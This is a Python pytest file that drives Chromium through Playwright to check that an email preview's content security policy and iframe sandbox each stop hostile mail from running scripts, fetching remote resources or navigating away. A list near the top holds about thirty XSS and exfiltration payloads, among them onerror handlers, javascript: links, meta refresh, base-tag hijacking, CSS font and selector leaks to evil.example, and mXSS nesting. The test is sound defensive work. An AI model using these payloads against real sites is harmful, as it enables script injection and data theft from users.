"""Whatever a mail holds, opened in a real browser as the preview shows it, nothing of it comes to life.

Two things see to that, the policy that the mail comes with and the sandbox of its frame. Each is shown to hold without
the other, and each mail to do harm where there is neither; both are taken away here, by nothing in the program.
"""

from __future__ import annotations

import html
import re
from collections.abc import Callable, Iterator, Mapping, Sequence
from contextlib import ExitStack
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from tests.browser import BROWSER, browsers
from tests.preview_server import Preview, a_preview, an_edition, without_policy

playwright = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")

CORPUS = Path(__file__).parents[2] / "shared" / "corpora" / "feeds" / "sanitize"

HOSTILE = {
    "a script": "<script>alert(1)</script>",
    "a script of another site": '<script src="https://evil.example/x.js"></script>',
    "a module": '<script type="module">import "https://evil.example/x.js"</script>',
    "a picture that fails": '<img src=x onerror="alert(1)">',
    "a drawing": '<svg onload="alert(1)"><script>alert(1)</script></svg>',
    "a drawing that leads on": '<svg><a id="go" xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
    "a body that loads": '<body onload="alert(1)">',
    "a link that runs": '<a id="go" href="javascript:alert(1)">x</a>',
    "a link that runs in a new window": '<a id="go" target="_blank" href="javascript:alert(document.domain)">x</a>',
    "a link that is a page": '<a id="go" href="data:text/html,<script>alert(1)</script>">x</a>',
    "a link that takes the window": '<a id="go" target="_top" href="https://evil.example/">x</a>',
    "another base": '<base href="https://evil.example/"><img src="a.png"><a id="go" href="x">x</a>',
    "a refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "a refresh that runs": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "a policy of its own": '<meta http-equiv="Content-Security-Policy" content="script-src *"><script>alert()</script>',
    "a form": '<form action="https://evil.example/"><button id="go">x</button></form>',
    "a form that runs": '<form action="javascript:alert(1)"><input type="submit" id="go"></form>',
    "a field that takes the focus": '<input autofocus onfocus="alert(1)">',
    "a frame": '<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "an object": '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">',
    "a picture elsewhere": '<img src="https://evil.example/pixel.gif" srcset="https://evil.example/2.gif 2x">',
    "a picture in a style": '<p style="background:url(https://evil.example/a.png)">x</p>',
    "a style sheet elsewhere": '<link rel="stylesheet" href="https://evil.example/a.css">',
    "an imported style sheet": "<style>@import url(https://evil.example/a.css);</style>",
    "a typeface elsewhere": "<style>@font-face{font-family:x;src:url(//evil.example/x)}p{font-family:x}</style><p>",
    "a style that tells what is there": '<style>a[href^="x"]{background:url(//evil.example/)}</style><a href="x">x</a>',
    "a film and a sound": '<video src="https://evil.example/a.mp4" autoplay></video><audio src="https://evil.example/a">',
    "what is fetched ahead": '<link rel="prefetch" href="//evil.example"><link rel="preconnect" href="//b.example">',
    "a ping": '<a id="go" href="#x" ping="https://evil.example/">x</a>',
    "a comment for one program": "<!--[if IE]><script>alert(1)</script><![endif]--><!--><script>alert(1)</script>-->",
    "an end of the page": "</body></html><script>alert(1)</script>",
    "an unclosed attribute": '<img src="x" title="<script>alert(1)</script>" onerror=alert(1)//',
    "a template": "<template><script>alert(1)</script></template>{{ 7*7 }}<x-a></x-a>",
    "mathematics": '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)"></style></mglyph></table></math>',
}


HARMLESS = {
    "a link that runs in a new window": "no browser runs an address in a window that it opens for it",
    "a refresh that runs": "no browser is refreshed to what would run",
    "a template": "what stands in a template is not run",
    "mathematics": "only what was read, written out and read again comes out of the style",
    "entry_content_blink": "nothing blinks any more",
    "feed_info_blink": "nothing blinks any more",
    "feed_subtitle_blink": "nothing blinks any more",
    "entry_summary_applet": "there are no applets any more",
    "feed_info_applet": "there are no applets any more",
    "item_content_encoded_applet": "there are no applets any more",
    "entry_content_frame": "a frame without its set of frames is none",
    "feed_tagline_frame": "a frame without its set of frames is none",
    "feed_title_frame": "a frame without its set of frames is none",
    "item_content_encoded_frame": "a frame without its set of frames is none",
    "entry_summary_script_base64": "nobody decodes it",
    "entry_title_object": "no browser starts a program by its number any more",
}
"""Mails that do nothing in this browser even where nothing protects it, each with why."""

LET_PASS = ("acceptable_", "style_")
"""How the corpus calls what a sanitizer may leave: there is nothing in it that could come to life."""

AT_ONCE = 60


def _cases() -> dict[str, str]:
    cases = {
        name: f'<html lang="en" dir="ltr"><body><p>A letter.</p>{markup}</body></html>'
        for name, markup in HOSTILE.items()
    }
    if CORPUS.is_dir():
        for file in sorted(CORPUS.glob("*.xml")):
            cases[file.stem] = f"<html><body>{_payload(file.read_bytes().decode('utf-8', 'replace'))}</body></html>"
    return cases


def _payload(feed: str) -> str:
    """What a feed holds, as a reader that trusts it would show it: not in a title, where markup is only words."""
    held = re.sub(r"<(/?)title\b", r"<\1heading", feed)
    return html.unescape(re.sub(r"<!\[CDATA\[|\]\]>|<!--.*?-->", "", held, flags=re.DOTALL))


CASES = _cases()
HARMFUL = [name for name in CASES if name not in HARMLESS and not name.startswith(LET_PASS)]


@dataclass(frozen=True)
class Guards:
    """What protects the page from the mail in its frame."""

    policy: bool
    sandbox: bool


BOTH, POLICY, SANDBOX, NEITHER = Guards(True, True), Guards(True, False), Guards(False, True), Guards(False, False)


@dataclass(frozen=True)
class Opened:
    """The preview of every mail with and without its policy, and a browser, which can be had anew."""

    previews: Mapping[bool, Preview]
    browsers: list[Any]
    begin: Callable[[], Any]

    def alive(self, guards: Guards, names: Sequence[str]) -> list[str]:
        """What comes to life when these mails are shown beside each other in a page that shows nothing else."""
        try:
            return self._alive(guards, names)
        except playwright.Error:
            if self.browsers[-1].is_connected():
                raise
        # Hundreds of pages that leave, open and reload bring a browser down now and then. That is the browser's fault,
        # and must not be laid to this mail, unless it does so again, nor to all that come after it.
        self.browsers.append(self.begin())
        return self._alive(guards, names)

    def _alive(self, guards: Guards, names: Sequence[str]) -> list[str]:
        preview, found, asked = self.previews[guards.policy], list[str](), list[Any]()
        context = self.browsers[-1].new_context()

        def opens(dialog: Any) -> None:
            found.append(f"runs: {dialog.message}")
            dialog.dismiss()

        context.on("dialog", opens)
        context.on("request", lambda one: asked.append(one))
        context.on("requestfailed", lambda one: asked.remove(one) if one.failure == "csp" else None)
        page = context.new_page()
        # Nothing of the page's own is wanted here, only its origin and the frame that it would show the mail in.
        page.goto(preview.address + "state")
        addresses = [f"mail/1/x-{list(CASES).index(name)}" for name in names]
        try:
            found += page.evaluate(SHOW, [addresses, guards.sandbox, guards == NEITHER])
        except playwright.Error as error:
            found.append(f"leaves: {error.message[:80]}")
        if page.url != preview.address + "state":
            found.append(f"leaves: {page.url[:80]}")
        context.close()
        return found + [f"asks: {one.url[:80]}" for one in asked if not one.url.startswith(preview.address)]


SHOW = """async ([addresses, isSandboxed, isBare]) => {
  const pause = ms => new Promise(done => setTimeout(done, ms));
  const frames = addresses.map(address => {
    const frame = document.createElement('iframe');
    if (isSandboxed) frame.sandbox = 'allow-same-origin allow-popups allow-popups-to-escape-sandbox';
    frame.src = address;
    return frame;
  });
  const loaded = frames.map(frame => new Promise(done => { frame.onload = done; }));
  document.body.replaceChildren(...frames);
  await Promise.race([Promise.all(loaded), pause(1500)]);
  const found = [];
  for (const frame of frames) {
    // Where the browser itself puts up that something was blocked, nobody may look.
    let mail = null;
    try { mail = frame.contentDocument; } catch {}
    for (const node of mail?.querySelectorAll('*') ?? []) {
      // What a browser does not want to run it does not even read.
      const heard = [...node.attributes].filter(({name}) => typeof node[name] === 'function' && name.startsWith('on'));
      if (heard.length) found.push(`runs: ${heard.map(({name}) => name)} of ${node.nodeName}`);
    }
    mail?.getElementById('go')?.dispatchEvent(new MouseEvent('click', {bubbles: true, cancelable: true}));
  }
  await pause(40);
  frames.forEach((frame, at) => {
    let shown = isBare ? 'a page of its own' : '';
    try { shown = frame.contentWindow.location.href; } catch {}
    const own = location.href.replace(/state$/, '');
    if (shown && !shown.startsWith(own)) found.push(`leaves: ${addresses[at]} is at ${shown}`);
  });
  return found;
}"""
"""Shows mails in frames of their own and clicks on what is called ``go``; what can be seen to live in them."""


@pytest.fixture(scope="module")
def opened() -> Iterator[Opened]:
    if BROWSER is None:
        pytest.skip("no Chromium here")
    editions = [an_edition(mail, language=f"x-{number}") for number, mail in enumerate(CASES.values())]
    with ExitStack() as stack:
        previews = {
            True: stack.enter_context(a_preview(editions)),
            False: stack.enter_context(a_preview(editions, without_policy)),
        }
        begin = stack.enter_context(browsers())
        yield Opened(previews, [begin()], begin)


@pytest.fixture(scope="module", params=[BOTH, POLICY, SANDBOX], ids=["both", "policy", "sandbox"])
def guarded(request: pytest.FixtureRequest, opened: Opened) -> tuple[Guards, dict[str, list[str]]]:
    """What protects, and what comes to life of each mail all the same."""
    found: dict[str, list[str]] = {}
    names = list(CASES)
    for at in range(0, len(names), AT_ONCE):
        some = names[at : at + AT_ONCE]
        alive = _that_counts(request.param, opened.alive(request.param, some))
        # Only where something lives is it worth the time to ask which of them it is.
        found |= {
            name: _that_counts(request.param, opened.alive(request.param, [name])) if alive else [] for name in some
        }
    return request.param, found


def _that_counts(guards: Guards, alive: list[str]) -> list[str]:
    """A sandbox keeps mails from running and from taking the page away; what they ask for is the policy's part."""
    if guards.policy:
        return alive
    return [each for each in alive if not each.startswith("asks: ") and "is at http" not in each]


@pytest.mark.parametrize("name", CASES)
def test_nothing_runs_asks_or_leaves_that_stands_in_a_mail_as(
    guarded: tuple[Guards, dict[str, list[str]]], name: str
) -> None:
    _, alive = guarded
    assert alive[name] == []


@pytest.mark.parametrize("name", HARMFUL)
def test_without_policy_and_sandbox_harm_is_done_by(opened: Opened, name: str) -> None:
    assert opened.alive(NEITHER, [name]) != []
